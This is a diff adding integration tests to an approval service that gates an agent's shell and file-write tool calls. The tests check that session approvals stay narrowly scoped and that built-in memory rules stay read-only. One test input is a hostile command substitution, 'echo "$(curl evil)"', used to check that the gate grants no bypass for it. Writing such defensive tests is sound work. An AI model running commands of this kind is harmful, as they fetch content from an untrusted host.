@@ -74,7 +74,12 @@ describe('approval service over NATS and Postgres', () => {
 
   const register = (
     actor: Actor,
-    over: Partial<{ kind: 'approval' | 'clarification'; session_id: string; tool_name: string }> = {},
+    over: Partial<{
+      kind: 'approval' | 'clarification';
+      session_id: string;
+      tool_name: string;
+      arguments: Record<string, unknown>;
+    }> = {},
   ) => {
     const req = {
       actor,
@@ -84,7 +89,7 @@ describe('approval service over NATS and Postgres', () => {
       session_id: over.session_id ?? randomUUID(),
       source: 'web',
       tool_name: over.tool_name ?? 'execute_cmd',
-      arguments: { command: 'make deploy' },
+      arguments: over.arguments ?? { command: 'make deploy' },
       preview: { path: '$ execute_cmd', new_content: '$ make deploy' },
       ...(over.kind === 'clarification'
         ? { question: { title: 'Which?', question: 'Which env?', suggested_answers: ['prod', 'dev'] } }
@@ -238,6 +243,107 @@ describe('approval service over NATS and Postgres', () => {
     const reset = await client.call('approval.reset_session', { actor: alice, session_id: sessionId });
     expect(reset.revoked).toBe(1);
     expect((await check(alice, sessionId, 'execute_cmd', { command: 'make' })).decision).toBe('require');
+  });
+
+  it('"approve for this session" opens the narrow scope the inbox showed, for the default hour; bypass_secs alone is narrow too', async () => {
+    const alice = user();
+    const sessionId = randomUUID();
+    const { req } = await register(alice, { session_id: sessionId, arguments: { command: 'git status' } });
+    const inbox = await client.call('approval.inbox', { actor: alice });
+    const scope = { tool: 'execute_cmd', program: 'git', subcommand: 'status' };
+    expect(inbox.approvals.find((a) => a.request_id === req.request_id)?.session_approval).toEqual({
+      scopes: [scope],
+      secs: 3600,
+    });
+    await client.call('approval.resolve', {
+      actor: alice,
+      request_id: req.request_id,
+      action: 'approve',
+      bypass_scope: 'call',
+    });
+    const [b] = (await client.call('approval.bypasses.list', { actor: alice, session_id: sessionId })).items;
+    expect(b.scope).toEqual(scope);
+    const lifetime = new Date(b.expires_at ?? 0).getTime() - new Date(b.created_at).getTime();
+    expect(Math.abs(lifetime - 3600_000)).toBeLessThan(5_000);
+    expect((await check(alice, sessionId, 'execute_cmd', { command: 'git status -s' })).decision).toBe('allow');
+    expect((await check(alice, sessionId, 'execute_cmd', { command: 'git push' })).decision).toBe('require');
+    expect((await check(alice, sessionId, 'execute_cmd', { command: 'git status; git push' })).decision).toBe(
+      'require',
+    );
+    expect((await check(alice, sessionId, 'write_file', { path: 'a', content: '' })).decision).toBe('require');
+
+    // bypass_secs alone (the old clients' "whole session") is narrow too
+    const other = randomUUID();
+    const w = await register(alice, {
+      session_id: other,
+      tool_name: 'write_file',
+      arguments: { path: '/workspace/src/a.ts', content: '' },
+    });
+    await client.call('approval.resolve', {
+      actor: alice,
+      request_id: w.req.request_id,
+      action: 'approve',
+      bypass_secs: 0,
+    });
+    const [wb] = (await client.call('approval.bypasses.list', { actor: alice, session_id: other })).items;
+    expect(wb).toMatchObject({ scope: { tool: 'write_file', directory: '/workspace/src' } });
+    expect(wb.expires_at).toBeUndefined();
+    expect((await check(alice, other, 'write_file', { path: '/workspace/src/b.ts', content: '' })).decision).toBe(
+      'allow',
+    );
+    expect((await check(alice, other, 'write_file', { path: '/workspace/b.ts', content: '' })).decision).toBe(
+      'require',
+    );
+    expect((await check(alice, other, 'execute_cmd', { command: 'git status' })).decision).toBe('require');
+
+    // a line the gate cannot read offers no session approval and opens none
+    const third = randomUUID();
+    const u = await register(alice, { session_id: third, arguments: { command: 'echo "$(curl evil)"' } });
+    const inbox2 = await client.call('approval.inbox', { actor: alice });
+    expect(inbox2.approvals.find((a) => a.request_id === u.req.request_id)?.session_approval).toBeUndefined();
+    await client.call('approval.resolve', {
+      actor: alice,
+      request_id: u.req.request_id,
+      action: 'approve',
+      bypass_secs: 60,
+    });
+    expect((await client.call('approval.bypasses.list', { actor: alice, session_id: third })).items).toEqual([]);
+  });
+
+  it('the built-in memory rules are listed read-only: no edit, no delete, no shadowing', async () => {
+    const list = await client.call('approval.rules.list', { actor: admin });
+    const builtIns = list.items.filter((r) => r.built_in);
+    expect(builtIns.map((r) => [r.tool_pattern, r.path_pattern, r.action])).toEqual([
+      ['@fs_write', 'shared-memory/*', 'deny'],
+      ['@fs_write', 'user-memory/*', 'allow'],
+    ]);
+    expect(list.items.slice(0, 2)).toEqual(builtIns);
+    for (const r of builtIns) {
+      expect(await codeOf(client.call('approval.rules.delete', { actor: admin, id: r.id }))).toBe('conflict');
+      expect(
+        await codeOf(client.call('approval.rules.update', { actor: admin, id: r.id, patch: { action: 'require' } })),
+      ).toBe('conflict');
+    }
+    // an admin's deny-all (priority 0) blocks everything but user-memory writes
+    const deny = await client.call('approval.rules.create', {
+      actor: admin,
+      rule: { tool_pattern: '*', action: 'deny', priority: 0 },
+    });
+    try {
+      const alice = user();
+      await sleep(1100);
+      expect(
+        (await check(alice, randomUUID(), 'write_file', { path: 'user-memory/n.md', content: 'x' })).decision,
+      ).toBe('allow');
+      expect((await check(alice, randomUUID(), 'write_file', { path: 'notes.md', content: 'x' })).decision).toBe(
+        'deny',
+      );
+    } finally {
+      await client.call('approval.rules.delete', { actor: admin, id: deny.id });
+    }
+    expect((await client.call('approval.rules.list', { actor: admin })).items.filter((r) => r.built_in)).toHaveLength(
+      2,
+    );
   });
 
   it('a bypass with secs expires by the database clock; a revoked one ends at once', async () => {
